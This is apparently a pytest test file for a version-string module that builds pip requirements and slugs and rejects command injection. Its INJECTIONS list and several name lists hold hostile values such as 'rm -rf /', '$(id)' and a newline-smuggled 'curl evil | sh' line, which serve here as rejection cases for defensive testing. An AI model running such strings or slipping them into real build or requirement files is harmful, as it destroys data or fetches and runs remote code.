"""versions: matrix values -> pip requirements and cell-id fragments, rejecting anything else."""

from __future__ import annotations

import pytest
from packaging.version import Version

from orchestrator.plan import versions

INJECTIONS = [
    "1.0; rm -rf /",
    "1.0 && curl x",
    "1.0 | sh",
    "$(id)",
    "`id`",
    "1.0\nRUN curl evil | sh",
    '1.0"',
    "1.0'",
    "1.0 ; python_version>'3'",
    "",
    "   ",
]


@pytest.mark.parametrize(
    ("name", "value", "expected"),
    [
        ("PyYAML", "6.0.2", "pyyaml==6.0.2"),
        ("click", "8.1.*", "click==8.1.*"),
        ("click", "==8.1.8", "click==8.1.8"),
        ("Foo_Bar.baz", "~=1.2", "foo-bar-baz~=1.2"),
        ("pyyaml", ">=6,<7", "pyyaml<7,>=6"),
        ("pyyaml", " 6.0.2 ", "pyyaml==6.0.2"),
    ],
)
def test_requirement(name, value, expected):
    assert versions.requirement(name, value) == expected


@pytest.mark.parametrize("value", INJECTIONS)
def test_requirement_rejects_injection_in_the_value(value):
    with pytest.raises(versions.BadValue):
        versions.requirement("click", value)


@pytest.mark.parametrize("name", ["click; rm -rf /", "$(id)", "click && id", "a b", '"click"'])
def test_requirement_rejects_injection_in_the_name(name):
    with pytest.raises(versions.BadValue):
        versions.requirement(name, "1.0")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("6.0.2", "6.0.2"),
        ("==6.0.2", "6.0.2"),
        ("6.0.*", "6.0.x"),
        ("==6.0.*", "6.0.x"),
        ("~=1.4", "compat1.4"),
        ("!=1.0", "ne1.0"),
        (">6", "gt6"),
        ("<=6", "le6"),
        ("===1.0", "eq1.0"),
    ],
)
def test_slug(value, expected):
    assert versions.slug(value) == expected


def test_slug_of_a_range_is_independent_of_written_order_and_spacing():
    assert versions.slug(">=6,<7") == versions.slug("<7, >=6") == versions.slug(" >= 6 , < 7 ")
    assert versions.slug(">=6,<7") != versions.slug(">=6,<8")


@pytest.mark.parametrize("value", INJECTIONS)
def test_slug_rejects_injection(value):
    with pytest.raises(versions.BadValue):
        versions.slug(value)


@pytest.mark.parametrize(
    ("value", "inside", "outside"),
    [
        ("6.0.2", "6.0.2", "6.0.3"),
        ("6.0.*", "6.0.9", "6.1.0"),
        (">=6,<7", "6.5", "7.0"),
        ("~=1.4", "1.9", "2.0"),
    ],
)
def test_specifier_means_what_the_value_says(value, inside, outside):
    spec = versions.specifier(value)
    assert Version(inside) in spec
    assert Version(outside) not in spec


def test_exact_version_is_pinned_with_double_equals():
    assert str(versions.specifier("6.0.2")) == "==6.0.2"


@pytest.mark.parametrize("value", [*INJECTIONS, "latest", "6.0.2.*.*", ">>6"])
def test_specifier_rejects_non_versions(value):
    with pytest.raises(versions.BadValue):
        versions.specifier(value)


def test_bad_value_is_a_value_error():
    assert issubclass(versions.BadValue, ValueError)


@pytest.mark.parametrize(
    ("name", "expected"),
    [("PyYAML", "pyyaml"), ("Foo.Bar_baz", "foo-bar-baz"), ("zope.interface", "zope-interface")],
)
def test_normalize_name(name, expected):
    assert versions.normalize_name(name) == expected


@pytest.mark.parametrize(
    "name", ["", "-click", "click-", "click;rm", "../etc", "a b", "click==1.0", "$(id)", "cli\nck"]
)
def test_normalize_name_rejects_non_names(name):
    with pytest.raises(versions.BadValue):
        versions.normalize_name(name)


def test_trailing_newline_in_a_name_is_rejected():
    with pytest.raises(versions.BadValue):
        versions.requirement("click\n", "1.0")  # today: 'click\n==1.0'


@pytest.mark.parametrize(
    ("value", "expected"), [("3.13", "3.13"), (" 3.9 ", "3.9"), ("3.9", "3.9")]
)
def test_python_version(value, expected):
    assert versions.python_version(value) == expected


@pytest.mark.parametrize(
    "value", ["3", "3.13.1", "python3.13", "2.7", "3.x", "3.13; id", "3.100", "", "3.13\nRUN id"]
)
def test_python_version_rejects_other_shapes(value):
    with pytest.raises(versions.BadValue):
        versions.python_version(value)
